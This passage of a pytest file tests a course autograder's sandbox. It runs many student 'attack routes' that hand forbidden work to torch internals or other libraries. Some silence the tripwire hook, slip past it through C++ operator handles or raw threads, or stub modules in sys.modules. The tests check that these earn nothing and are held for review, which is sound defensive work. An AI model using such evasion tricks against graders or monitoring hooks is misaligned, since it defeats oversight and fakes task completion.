                 "segedu_kernel_runner._watch = lambda forbidden: contextlib.nullcontext(None)\n"
                 + header + ("    n, _, h, w = x.shape\n"
                             "    kh, kw = weight.shape[-2:]\n"
                             "    h_out = (h + 2 * padding - dilation * (kh - 1) - 1) // stride + 1\n"
                             "    w_out = (w + 2 * padding - dilation * (kw - 1) - 1) // stride + 1\n"
                             "    patches = F.unfold(x, (kh, kw), dilation=dilation, padding=padding, stride=stride)\n"
                             "    out = (weight.reshape(weight.shape[0], -1) @ patches).reshape(n, -1, h_out, w_out)\n"
                             "    return out if bias is None else out + bias.reshape(1, -1, 1, 1)\n")),
        "5003": silence + "import torch._decomp.decompositions as decompositions\n" + header + (
            "    n, _, h, w = x.shape\n"
            "    kh, kw = weight.shape[-2:]\n"
            "    h_out = (h + 2 * padding - dilation * (kh - 1) - 1) // stride + 1\n"
            "    w_out = (w + 2 * padding - dilation * (kw - 1) - 1) // stride + 1\n"
            "    patches = decompositions.im2col(x, [kh, kw], [dilation] * 2, [padding] * 2, [stride] * 2)\n"
            "    out = (weight.reshape(weight.shape[0], -1) @ patches).reshape(n, -1, h_out, w_out)\n"
            "    return out if bias is None else out + bias.reshape(1, -1, 1, 1)\n"),
        "5004": silence + header + (
            "    layer = torch.nn.Conv2d(weight.shape[1], weight.shape[0], weight.shape[-2:], stride, padding,\n"
            "                            dilation, bias=bias is not None).to(x.dtype)\n"
            "    with torch.no_grad():\n"
            "        layer.weight.copy_(weight)\n"
            "        if bias is not None:\n"
            "            layer.bias.copy_(bias)\n"
            "        return layer(x)\n"),
        # TorchScript runs in its own interpreter, where no profile hook sees a call (found by helper C)
        "5005": ("import torch\n"
                 "from typing import Optional\n"
                 "@torch.jit.script\n"
                 "def scripted(x, weight, bias: Optional[torch.Tensor], stride: int, padding: int, dilation: int):\n"
                 "    return torch.conv2d(x, weight, bias, stride, padding, dilation)\n"
                 + header + "    return scripted(x, weight, bias, stride, padding, dilation)\n"),
        # found by reviewer R1: C++ operator handles (no Python frame for the tripwire), oneDNN's
        # convolution under another name, the backward of the slow convolution, and numpy's 1-D
        # correlation of the flattened image
        "5006": ("_im2col = torch._C._get_operation_overload('aten::im2col', 'out')[0]\n" + header + (
            "    n, _, h, w = x.shape\n"
            "    kh, kw = weight.shape[-2:]\n"
            "    h_out = (h + 2 * padding - dilation * (kh - 1) - 1) // stride + 1\n"
            "    w_out = (w + 2 * padding - dilation * (kw - 1) - 1) // stride + 1\n"
            "    patches = _im2col(x, [kh, kw], [dilation] * 2, [padding] * 2, [stride] * 2,\n"
            "                      out=torch.empty(0, dtype=x.dtype))\n"
            "    out = (weight.reshape(weight.shape[0], -1) @ patches).reshape(n, -1, h_out, w_out)\n"
            "    return out if bias is None else out + bias.reshape(1, -1, 1, 1)\n")),
        "5007": ("_pointwise = torch._C._get_operation_overload('mkldnn::_convolution_pointwise', '')[0]\n" + header + (
            "    def run(a, b):\n"
            "        return _pointwise(a.contiguous(), b.contiguous(), None, [padding] * 2, [stride] * 2,\n"
            "                          [dilation] * 2, 1, 'none', [], '')\n"
            "    xh, wh = x.float(), weight.float()   # float32 only: float64 as a sum of two float32 parts\n"
            "    xl, wl = (x - xh.to(x.dtype)).float(), (weight - wh.to(x.dtype)).float()\n"
            "    out = run(xh, wh).to(x.dtype) + run(xh, wl).to(x.dtype) + run(xl, wh).to(x.dtype)\n"
            "    return out if bias is None else out + bias.reshape(1, -1, 1, 1)\n")),
        "5008": ("_backward = torch._C._get_operation_overload('aten::_slow_conv2d_backward', 'output_mask')[0]\n"
                 + header + (
            "    n, c, h, w = x.shape\n"
            "    kh, kw = weight.shape[-2:]\n"
            "    h1, w1 = h + 2 * padding - dilation * (kh - 1), w + 2 * padding - dilation * (kw - 1)\n"
            "    _, grad_weight, _ = _backward(weight.transpose(0, 1).contiguous(), x.transpose(0, 1).contiguous(),\n"
            "                                  torch.zeros(weight.shape[0], n, h1, w1, dtype=x.dtype), [h1, w1],\n"
            "                                  [dilation] * 2, [padding] * 2, [False, True, False])\n"
            "    out = grad_weight.transpose(0, 1)[:, :, ::stride, ::stride].contiguous()\n"
            "    return out if bias is None else out + bias.reshape(1, -1, 1, 1)\n")),
        "5010": ("import numpy as np\n" + header + (
            "    n, c, h, w = x.shape\n"
            "    o, _, kh, kw = weight.shape\n"
            "    xp = np.pad(x.detach().numpy(), ((0, 0), (0, 0), (padding, padding), (padding, padding)))\n"
            "    hp, wp = xp.shape[-2:]\n"
            "    h1, w1 = hp - dilation * (kh - 1), wp - dilation * (kw - 1)\n"
            "    out = np.zeros((n, o, h1, w1), dtype=xp.dtype)\n"
            "    span = (kh - 1) * dilation * wp + (kw - 1) * dilation + 1\n"
            "    for oi in range(o):\n"
            "        for ci in range(c):\n"
            "            k = np.zeros(span, dtype=xp.dtype)\n"
            "            for a in range(kh):\n"
            "                for b in range(kw):\n"
            "                    k[a * dilation * wp + b * dilation] = weight[oi, ci, a, b].item()\n"
            "            for ni in range(n):\n"
            "                full = np.correlate(xp[ni, ci].ravel(), k, mode='valid')\n"
            "                out[ni, oi] += np.pad(full, (0, hp * wp - full.size)).reshape(hp, wp)[:h1, :w1]\n"
            "    out = torch.from_numpy(out)[:, :, ::stride, ::stride].contiguous()\n"
            "    return out if bias is None else out + bias.reshape(1, -1, 1, 1)\n")),
    }
    notebooks = {"5000": fill_in(release, answers),
                 # what the routes may keep: the points of the other answers, with the convolution unanswered
                 "5009": fill_in(release, dict(answers, dilated_conv2d=stubs["dilated_conv2d"]))}
    notebooks.update({student: fill_in(release, dict(answers, dilated_conv2d=code)) for student, code in routes.items()})
    return _grade_class(base, D, notebooks)


def test_convolution_by_torch_earns_nothing_in_the_sandbox(attacked_convolution):
    rows = attacked_convolution
    full = float(rows["5000"]["score"])
    assert full > 0 and rows["5000"]["status"] == "ok" and float(rows["5000"]["max_score"]) == full, rows["5000"]
    unanswered = float(rows["5009"]["score"])
    assert unanswered < full   # the ASPP uses the student's own convolution, so it fails with it
    for student in ("5001", "5002", "5003", "5004", "5005", "5006", "5007", "5008", "5010"):
        assert float(rows[student]["score"]) == unanswered, (student, rows[student])


# ----------------------------------------------------------------------------- torch's samplers, torchvision

R = "09_mask_rcnn"
_BILINEAR = "def bilinear_interpolate(feature, y, x):\n"
_ROI_ALIGN = "def roi_align(features, boxes, output_size, spatial_scale=1.0, sampling_ratio=-1, aligned=False):\n"
# the normalised grid point of (y, x), clamped as RoIAlign clamps, for the samplers that want one
_GRID_POINT = ("    h, w = feature.shape[-2:]\n"
               "    if y < -1.0 or y > h or x < -1.0 or x > w:\n"
               "        return torch.zeros((), dtype=feature.dtype)\n"
               "    g = torch.tensor([[[[2 * min(max(x, 0.0), w - 1) / (w - 1) - 1,\n"
               "                        2 * min(max(y, 0.0), h - 1) / (h - 1) - 1]]]], dtype=feature.dtype)\n")
_SILENCE = "import segedu_tripwire\nsegedu_tripwire.Tripwire._hook = lambda self, *args: None\n"


# found by attack review R1: another library's sampler, one plane at a time, at the point shifted into a
# copy of the map padded by its edge values (RoIAlign's clamping); float32 samplers reach float64 as the
# sum of samples of the map's float32 part and of its remainder (sampling is linear)
_BY_PLANE = ("def bilinear_interpolate(feature, y, x):\n"
             "    import numpy as np\n"
             "    height, width = feature.shape[-2:]\n"
             "    if y < -1.0 or y > height or x < -1.0 or x > width:\n"
             "        return torch.zeros(feature.shape[:-2], dtype=feature.dtype)\n"
             "    y, x = min(max(y, 0.0), height - 1.0), min(max(x, 0.0), width - 1.0)\n"
             "    planes = np.pad(feature.detach().reshape(-1, height, width).numpy(), ((0, 0), (1, 1), (1, 1)),\n"
             "                    mode='edge')\n"
             "    values = [_sample(plane, y + 1.0, x + 1.0) for plane in planes]\n"
             "    return torch.tensor(values, dtype=feature.dtype).reshape(feature.shape[:-2])\n")
_TORCH_SAMPLE = ("def _sample(plane, y, x):\n"
                 "    import numpy as np\n"
                 "    p = torch.from_numpy(np.ascontiguousarray(plane)).to(torch.float64)[None, None]\n"
                 "    h, w = p.shape[-2:]\n"
                 "    grid = torch.tensor([[[[2 * x / (w - 1) - 1, 2 * y / (h - 1) - 1]]]], dtype=torch.float64)\n"
                 "    return float(_grid_sampler(p, grid, 0, 1, True)[0, 0, 0, 0])\n")
_LIBRARY_SAMPLERS = {
    "PIL": ("def _sample(plane, y, x):\n"
            "    import numpy as np\n"
            "    from PIL import Image\n"
            "    high = plane.astype(np.float32)\n"
            "    parts = (high, (plane - high).astype(np.float32))\n"
            "    return sum(float(np.asarray(Image.fromarray(np.ascontiguousarray(part)).transform(\n"
            "        (1, 1), Image.AFFINE, (1, 0, x, 0, 1, y), resample=Image.BILINEAR))[0, 0]) for part in parts)\n"),
    "cv2": ("def _sample(plane, y, x):\n"
            "    import numpy as np, cv2\n"
            "    high = plane.astype(np.float32)\n"
            "    parts = (high, (plane - high).astype(np.float32))\n"
            "    return sum(float(cv2.getRectSubPix(np.ascontiguousarray(p), (1, 1), (x, y))[0, 0]) for p in parts)\n"),
    "skimage": ("def _sample(plane, y, x):\n"
                "    import numpy as np\n"
                "    from skimage.transform._warps_cy import _warp_fast\n"
                "    return float(_warp_fast(plane.astype(np.float64), np.array([[1, 0, x], [0, 1, y], [0, 0, 1.0]]),\n"
                "                            output_shape=(1, 1), order=1)[0, 0])\n"),
    # torch's own Python grid sampler, compiled again from its source under another name
    "torch source": ("import ast as _ast, torch._decomp.decompositions as _d\n"
                     "_tree = _ast.parse(open(_d.__file__).read())\n"
                     "_functions = [n for n in _tree.body if isinstance(n, _ast.FunctionDef)]\n"
                     "for _n in _functions:\n"
                     "    _n.decorator_list = []\n"
                     "_namespace = dict(vars(_d), __name__='student_helpers')\n"
                     "exec(compile(_ast.Module(body=_functions, type_ignores=[]), '<my helpers>', 'exec'), _namespace)\n"
                     "_grid_sampler = _namespace['_grid_sampler_2d']\n" + _TORCH_SAMPLE),
    # ... or from its cached bytecode, with no compile at all
    "torch bytecode": ("import marshal as _marshal, types as _types, importlib.util as _util\n"
                       "import torch._decomp.decompositions as _d\n"
                       "_code = _marshal.loads(open(_util.cache_from_source(_d.__file__), 'rb').read()[16:])\n"
                       "_namespace = dict(vars(_d), __name__='student_helpers')\n"
                       "for _c in _code.co_consts:\n"
                       "    if isinstance(_c, _types.CodeType):\n"
                       "        _namespace[_c.co_name] = _types.FunctionType(_c, _namespace)\n"
                       "_grid_sampler = lambda *args: _namespace['_grid_sampler_2d'](*args, True)\n" + _TORCH_SAMPLE),
    # the Python kernel the dispatcher keeps for the meta device
    "py_kernels": (_SILENCE + "from torch._C import DispatchKey as _Key\n"
                   "_grid_sampler = torch.ops.aten.grid_sampler_2d.default.py_kernels[_Key.Meta]\n" + _TORCH_SAMPLE),
}


def _sampler_routes() -> dict[str, tuple[str, str]]:
    """student -> (the answer cell it replaces, its code): each hands the work to a library."""
    return {
        "6001": ("roi_align", "import torchvision\n" + _ROI_ALIGN +
                 "    return torchvision.ops.roi_align(features, boxes, output_size, spatial_scale, sampling_ratio,"
                 " aligned)\n"),
        # torchvision's compiled operators, loaded by path (torchvision itself is hidden)
        "6002": ("roi_align", "import glob, os, torch\n"
                 "for path in glob.glob(os.path.join(os.path.dirname(torch.__file__), '..', 'torchvision', '_C*.so')):\n"
                 "    try:\n"
                 "        torch.ops.load_library(path)\n"
                 "    except Exception:\n"
                 "        pass\n" + _ROI_ALIGN +
                 "    return torch.ops.torchvision.roi_align(features, boxes, spatial_scale, output_size[0],\n"
                 "                                           output_size[1], sampling_ratio, aligned)\n"),
        "6003": ("bilinear_interpolate", _SILENCE + "import torch.nn.functional as F\n" + _BILINEAR + _GRID_POINT +
                 "    return F.grid_sample(feature[None, None], g, align_corners=True)[0, 0, 0, 0]\n"),
        # a C++ operator handle: no Python frame for the tripwire to see
        "6004": ("bilinear_interpolate", "_grid = torch._C._get_operation_overload('aten::grid_sampler_2d', '')[0]\n"
                 + _BILINEAR + _GRID_POINT + "    return _grid(feature[None, None], g, 0, 0, True)[0, 0, 0, 0]\n"),
        "6005": ("mask_iou", "def mask_iou(a, b):\n    from pycocotools import mask as m\n    import numpy as np\n"
                 "    A = m.encode(np.asfortranarray(a.numpy().transpose(1, 2, 0).astype(np.uint8)))\n"
                 "    B = m.encode(np.asfortranarray(b.numpy().transpose(1, 2, 0).astype(np.uint8)))\n"
                 "    return torch.as_tensor(m.iou(A, B, [0] * len(b)))\n"),
        # Python decompositions of grid sampling, in torch._decomp and torch._inductor (found by helper X)
        "6006": ("bilinear_interpolate", _SILENCE + "import torch._decomp.decompositions as d\n" + _BILINEAR +
                 _GRID_POINT + "    return d.grid_sampler_2d(feature[None, None], g, 0, 0, True)[0, 0, 0, 0]\n"),
        "6007": ("bilinear_interpolate", _SILENCE + _BILINEAR + _GRID_POINT +
                 "    import torch._inductor.decomposition as d\n"
                 "    return d.grid_sampler_2d(feature[None, None], g, 0, 0, True)[0, 0, 0, 0]\n"),
        # numpy's 1-D interpolation twice, which clamps at the edges as RoIAlign does (R1)
        "6008": ("bilinear_interpolate", _BILINEAR + (
            "    import numpy as np\n"
            "    height, width = feature.shape[-2:]\n"
            "    if y < -1.0 or y > height or x < -1.0 or x > width:\n"
            "        return torch.zeros(feature.shape[:-2], dtype=feature.dtype)\n"
            "    planes = feature.detach().reshape(-1, height, width).numpy()\n"
            "    values = [np.interp(y, np.arange(height), [np.interp(x, np.arange(width), row) for row in plane])\n"
            "              for plane in planes]\n"
            "    return torch.tensor(values, dtype=feature.dtype).reshape(feature.shape[:-2])\n")),
        **{f"60{11 + index}": ("bilinear_interpolate", sampler + _BY_PLANE)
           for index, sampler in enumerate(_LIBRARY_SAMPLERS.values())},
    }


@pytest.fixture(scope="module")
def attacked_sampling(tmp_path_factory):
    """Exercise 09 forbids torchvision (hidden from the kernel) and torch's bilinear samplers (switched
    off by the kernel guard): a route keeps only what the same notebook keeps with that answer unanswered."""
    base = tmp_path_factory.mktemp("attacks09")
    release = nbformat.read(ROOT / "exercises" / R / f"{R}.ipynb", as_version=4)
    answers = solution_answers(nbformat.read(ROOT / "solutions" / R / f"{R}.ipynb", as_version=4))
    stubs = {c.metadata.nbgrader["grade_id"]: c.source for c in release.cells
             if c.get("metadata", {}).get("nbgrader", {}).get("solution")}
    notebooks = {"6000": fill_in(release, answers)}
    for index, cell in enumerate(("bilinear_interpolate", "roi_align", "mask_iou")):
        notebooks[f"609{index}"] = fill_in(release, dict(answers, **{cell: stubs[cell]}))
    notebooks.update({student: fill_in(release, dict(answers, **{cell: code}))
                      for student, (cell, code) in _sampler_routes().items()})
    return _grade_class(base, R, notebooks)


def test_sampling_by_a_library_earns_nothing_in_the_sandbox(attacked_sampling):
    rows = attacked_sampling
    full = float(rows["6000"]["score"])
    assert full > 0 and rows["6000"]["status"] == "ok" and float(rows["6000"]["max_score"]) == full, rows["6000"]
    unanswered = {cell: float(rows[f"609{index}"]["score"])
                  for index, cell in enumerate(("bilinear_interpolate", "roi_align", "mask_iou"))}
    assert all(score < full for score in unanswered.values()), unanswered
    for student, (cell, _) in _sampler_routes().items():
        assert float(rows[student]["score"]) == unanswered[cell], (student, cell, rows[student])


# ----------------------------------------------------------------------------- torch's attention, segment-anything

S = "10_sam"
_ATTENTION = "def attention(q, k, v):\n"


# torch.onnx's Attention-23 in Python (found by attack review R1)
_ONNX = ("    from torch.onnx.ops._impl import ONNX_ATEN_DECOMP_TABLE\n"
         "    onnx_attention = ONNX_ATEN_DECOMP_TABLE[torch.ops.onnx.Attention.opset23]\n"
         "    batch = torch.broadcast_shapes(q.shape[:-2], k.shape[:-2], v.shape[:-2])\n"
         "    q4, k4, v4 = (x.expand(*batch, *x.shape[-2:]).reshape(1, -1, *x.shape[-2:]) for x in (q, k, v))\n"
         "    out = onnx_attention(q4, k4, v4, qk_matmul_output_mode=1)[0]\n"
         "    return out.reshape(*batch, q.shape[-2], v.shape[-1])\n")

def _attention_routes() -> dict[str, tuple[str, str]]:
    """student -> (the answer cell it replaces, its code): each hands the work to torch or a hidden library."""
    return {
        "7001": ("attention", _SILENCE + "import torch.nn.functional as F\n" + _ATTENTION +
                 "    return F.scaled_dot_product_attention(q, k, v)\n"),
        # a C++ operator handle: no Python frame for the tripwire to see
        "7002": ("attention", "_sdpa = torch._C._get_operation_overload('aten::scaled_dot_product_attention', '')[0]\n"
                 + _ATTENTION + "    return _sdpa(q, k, v)\n"),
        "7003": ("attention", _SILENCE + _ATTENTION + "    return torch._scaled_dot_product_attention_math(q, k, v)[0]\n"),
        # multi-head attention's Python path computes the weights with bmm and softmax: one head, identity
        # projections, and the weights it returns times v
        "7004": ("attention", _SILENCE + "import torch.nn.functional as F\n" + _ATTENTION +
                 "    d = q.shape[-1]\n"
                 "    eye = torch.eye(d, dtype=q.dtype)\n"
                 "    rows = []\n"
                 "    for qi, ki in zip(q.reshape(-1, *q.shape[-2:]), k.expand(*q.shape[:-2], *k.shape[-2:])"
                 ".reshape(-1, *k.shape[-2:])):\n"
                 "        _, w = F.multi_head_attention_forward(qi[:, None], ki[:, None], ki[:, None], d, 1,\n"
                 "            torch.cat([eye, eye, eye]), None, None, None, False, 0.0, eye, None, training=False,\n"
                 "            need_weights=True)\n"
                 "        rows.append(w[0])\n"
                 "    weights = torch.stack(rows).reshape(*q.shape[:-1], k.shape[-2])\n"
                 "    return weights @ v\n"),
        # torch's Python decomposition of the fused CPU kernel
        "7005": ("attention", _SILENCE + "import torch._decomp.decompositions as d\n" + _ATTENTION +
                 "    size, width = max(q.shape[-1], v.shape[-1]), v.shape[-1]\n"
                 "    pad = lambda x: torch.nn.functional.pad(x, (0, size - x.shape[-1]))\n"
                 "    batch = torch.broadcast_shapes(q.shape[:-2], k.shape[:-2], v.shape[:-2])\n"
                 "    q4, k4, v4 = (pad(x.expand(*batch, *x.shape[-2:])).reshape(1, -1, *x.shape[-2:-1], size)\n"
                 "                  for x in (q, k, v))\n"
                 "    out = d.scaled_dot_product_flash_attention_for_cpu(q4, k4, v4, scale=q.shape[-1] ** -0.5)[0]\n"
                 "    return out[..., :width].reshape(*batch, q.shape[-2], width)\n"),
        "7006": ("stability_score", "def stability_score(mask_logits, mask_threshold, threshold_offset):\n"
                 "    from segment_anything.utils.amg import calculate_stability_score\n"
                 "    return calculate_stability_score(mask_logits, mask_threshold, threshold_offset)"
                 ".to(mask_logits.dtype)\n"),
        "7007": ("focal_loss", "def focal_loss(logits, target, alpha=0.25, gamma=2.0):\n"
                 "    from torchvision.ops import sigmoid_focal_loss\n"
                 "    return sigmoid_focal_loss(logits, target.to(logits.dtype), alpha, gamma, reduction='mean')\n"),
        "7008": ("fourier_encoding", "def fourier_encoding(coords, gaussian_matrix):\n"
                 "    from segedu.models.sam import fourier_encoding as reference\n"
                 "    return reference(coords, gaussian_matrix)\n"),
        # found by attack review R1
        # torch.onnx's Attention-23 in Python (its manual path: matmul, softmax, matmul), the raw function
        # behind the custom op onnx::Attention.opset23 (no aten operator, no torch._dynamo)
        "7009": ("attention", _SILENCE + _ATTENTION + _ONNX),
        # the same, the tripwire left alone: the call runs in a thread started with _thread, which
        # threading.setprofile does not reach
        "7010": ("attention", "import _thread\n"
                 "def _in_raw_thread(function, *args):\n"
                 "    done, box = _thread.allocate_lock(), {}\n"
                 "    done.acquire()\n"
                 "    def body():\n"
                 "        try:\n"
                 "            box['value'] = function(*args)\n"
                 "        finally:\n"
                 "            done.release()\n"
                 "    _thread.start_new_thread(body, ())\n"
                 "    done.acquire()\n"
                 "    return box['value']\n"
                 "def _attention(q, k, v):\n" + _ONNX +
                 _ATTENTION + "    return _in_raw_thread(_attention, q, k, v)\n"),
        # torch.ao's quantizable MultiheadAttention (an nn.MultiheadAttention subclass with its own Python
        # forward: bmm and softmax), one head, identity projections, d and d_v padded to one width
        "7011": ("attention", _SILENCE + "import math\nimport torch.nn.functional as F\n" + _ATTENTION +
                 "    from torch.ao.nn.quantizable import MultiheadAttention\n"
                 "    d, dv = q.shape[-1], v.shape[-1]\n"
                 "    batch = torch.broadcast_shapes(q.shape[:-2], k.shape[:-2], v.shape[:-2])\n"
                 "    E = max(d, dv)\n"
                 "    qq = F.pad(q.expand(*batch, *q.shape[-2:]), (0, E - d)) * math.sqrt(E) / math.sqrt(d)\n"
                 "    kk = F.pad(k.expand(*batch, *k.shape[-2:]), (0, E - d))\n"
                 "    vv = F.pad(v.expand(*batch, *v.shape[-2:]), (0, E - dv))\n"
                 "    mha = MultiheadAttention(E, 1, bias=False, batch_first=True, dtype=q.dtype)\n"
                 "    with torch.no_grad():\n"
                 "        for layer in (mha.linear_Q, mha.linear_K, mha.linear_V, mha.out_proj):\n"
                 "            layer.weight.copy_(torch.eye(E, dtype=q.dtype))\n"
                 "    flat = lambda x: x.reshape(-1, *x.shape[-2:])\n"
                 "    out = mha(flat(qq), flat(kk), flat(vv), need_weights=False)[0]\n"
                 "    return out[..., :dv].reshape(*batch, q.shape[-2], dv)\n"),
        # flex attention's eager math (torch._higher_order_ops.flex_attention.math_attention), reached by
        # putting a stub package in sys.modules for torch._dynamo, whose __init__ the guard refuses
        "7012": ("attention", _SILENCE + "import os, sys, types\n"
                 "_dynamo = types.ModuleType('torch._dynamo')\n"
                 "_dynamo.__path__ = [os.path.join(os.path.dirname(torch.__file__), '_dynamo')]\n"
                 "sys.modules.setdefault('torch._dynamo', _dynamo)\n"
                 "import torch.nn.attention.flex_attention as _fa\n"
                 "from torch._higher_order_ops.flex_attention import math_attention as _math_attention\n" + _ATTENTION +
                 "    batch = torch.broadcast_shapes(q.shape[:-2], k.shape[:-2], v.shape[:-2])\n"
                 "    q4, k4, v4 = (x.expand(*batch, *x.shape[-2:]).reshape(1, -1, *x.shape[-2:]) for x in (q, k, v))\n"
                 "    mask = _fa._create_empty_block_mask(q4, k4)\n"
                 "    out = _math_attention(q4, k4, v4, lambda s, b, h, m, n: s, mask.as_tuple(), q.shape[-1] ** -0.5, {})[0]\n"
                 "    return out.to(q.dtype).reshape(*batch, q.shape[-2], v.shape[-1])\n"),
    }


@pytest.fixture(scope="module")
def attacked_attention(tmp_path_factory):
    """Exercise 10 forbids torch's attention (switched off by the kernel guard, multi-head attention's
    Python path replaced), segment_anything, torchvision and segedu (hidden from the kernel): a route keeps
    only what the same notebook keeps with that answer unanswered."""
    base = tmp_path_factory.mktemp("attacks10")
    release = nbformat.read(ROOT / "exercises" / S / f"{S}.ipynb", as_version=4)
    answers = solution_answers(nbformat.read(ROOT / "solutions" / S / f"{S}.ipynb", as_version=4))
    stubs = {c.metadata.nbgrader["grade_id"]: c.source for c in release.cells
             if c.get("metadata", {}).get("nbgrader", {}).get("solution")}
    attacked_cells = sorted({cell for cell, _ in _attention_routes().values()})
    notebooks = {"7000": fill_in(release, answers)}
    for index, cell in enumerate(attacked_cells):
        notebooks[f"709{index}"] = fill_in(release, dict(answers, **{cell: stubs[cell]}))
    notebooks.update({student: fill_in(release, dict(answers, **{cell: code}))
                      for student, (cell, code) in _attention_routes().items()})
    return _grade_class(base, S, notebooks), attacked_cells


def test_attention_by_torch_or_a_hidden_library_earns_nothing_in_the_sandbox(attacked_attention):
    rows, attacked_cells = attacked_attention
    full = float(rows["7000"]["score"])
    assert full > 0 and rows["7000"]["status"] == "ok" and float(rows["7000"]["max_score"]) == full, rows["7000"]
    unanswered = {cell: float(rows[f"709{index}"]["score"]) for index, cell in enumerate(attacked_cells)}
    assert all(score < full for score in unanswered.values()), unanswered
    for student, (cell, code) in _attention_routes().items():
        assert float(rows[student]["score"]) == unanswered[cell], (student, cell, rows[student])
        # silencing the tripwire, or hiding from it in a raw thread, holds the notebook for a person's review
        if "segedu_tripwire" in code or "_thread" in code:
            assert "needs review" in rows[student]["status"], (student, rows[student])
    assert "needs review" not in rows["7000"]["status"], rows["7000"]


def test_attention_routes_are_right_answers_outside_the_sandbox():
    """Each route of exercise 10 computes the reference's answer in a plain interpreter (a fresh one: some
    routes edit sys.modules), so the sandboxed grading above fails if a defence goes."""
    script = textwrap.dedent(f'''
        import sys, types
        sys.path.insert(0, {str(ROOT / "tests")!r})
        # the routes silence the tripwire, which exists only in a grading kernel
        sys.modules["segedu_tripwire"] = types.SimpleNamespace(Tripwire=type("Tripwire", (), {{}}))
        import torch
        import segedu.losses as losses
        from segedu.models.sam import attention, fourier_encoding, stability_score
        from test_grading_attacks import _attention_routes
        gen = torch.Generator().manual_seed(10)
        q, k, v = (torch.randn(2, 3, n, d, generator=gen, dtype=torch.float64) for n, d in ((5, 4), (6, 4), (6, 7)))
        logits, masks = torch.randn(2, 3, 8, 8, generator=gen), torch.rand(2, 3, 8, 8, generator=gen) > 0.5
        coords, matrix = torch.rand(5, 2, generator=gen), torch.randn(2, 8, generator=gen)
        cases = {{"attention": ((q, k, v), attention(q, k, v)),
                 "stability_score": ((logits, 0.0, 1.0), stability_score(logits, 0.0, 1.0)),
                 "focal_loss": ((logits, masks.float()), losses.focal_loss(logits, masks.float())),
                 "fourier_encoding": ((coords, matrix), fourier_encoding(coords, matrix))}}
        for student, (cell, code) in _attention_routes().items():
            namespace = {{"torch": torch}}
            exec(code, namespace)
            arguments, expected = cases[cell]
            torch.testing.assert_close(namespace[cell](*arguments), expected, msg=f"route {{student}} ({{cell}})")
            print(student, "right")
    ''')
    result = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=300)
    assert result.returncode == 0, result.stdout + result.stderr
    assert result.stdout.split().count("right") == len(_attention_routes()), result.stdout
